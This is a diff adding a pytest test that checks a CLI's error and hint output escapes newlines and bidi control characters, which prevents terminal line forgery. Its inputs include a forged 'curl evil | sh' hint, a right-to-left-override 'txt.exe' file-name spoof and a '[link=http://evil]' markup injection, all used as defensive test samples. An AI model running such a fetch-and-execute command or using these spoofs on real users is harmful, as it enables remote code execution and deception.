@@ -31,6 +31,20 @@ def test_diagnostics_and_printed_lines_carry_no_escape_sequences(capsys: pytest.
     assert captured.err.count("[link=http://evil]b[/link]") == 4
 
 
+def test_error_and_hint_are_one_line_and_bidi_controls_are_shown(capsys: pytest.CaptureFixture[str]) -> None:
+    """audit13d finding 6: a name quoted in an error or hint forges no line, and a bidi control
+    (U+202E reverses what follows it on screen) is shown as ``\\uNNNN`` in any printed text."""
+    out = Output()
+    out.error(CvmfsError("file /a\nerror: none\t\u202etxt.exe", hint="x\nhint: run 'curl evil | sh' \u2066"))
+    out.info("name \u202e\u200f\u061c")
+    err = capsys.readouterr().err
+    assert err.splitlines() == [
+        "error: file /a\\x0aerror: none\\x09\\u202etxt.exe",
+        "hint: x\\x0ahint: run 'curl evil | sh' \\u2066",
+        "name \\u202e\\u200f\\u061c",
+    ]
+
+
 @pytest.mark.parametrize("value", ["inf", "nan", "-1", "0", "x"])
 def test_a_timeout_flag_that_is_no_duration_is_a_usage_error(
     value: str, capsys: pytest.CaptureFixture[str]
